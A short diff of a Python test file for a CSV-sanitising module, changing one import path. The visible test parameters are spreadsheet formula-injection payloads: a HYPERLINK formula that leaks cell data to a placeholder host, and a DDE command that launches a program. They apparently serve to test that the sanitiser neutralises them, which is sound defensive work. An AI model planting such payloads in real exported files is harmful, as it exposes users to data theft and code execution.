@@ -3,7 +3,7 @@ import io
 
 import pytest
 
-from loscat_hf.data.csvsafe import SafeDictWriter, SafeWriter, read_cell, safe_cell
+from loscat_hf.io.csvsafe import SafeDictWriter, SafeWriter, read_cell, safe_cell
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
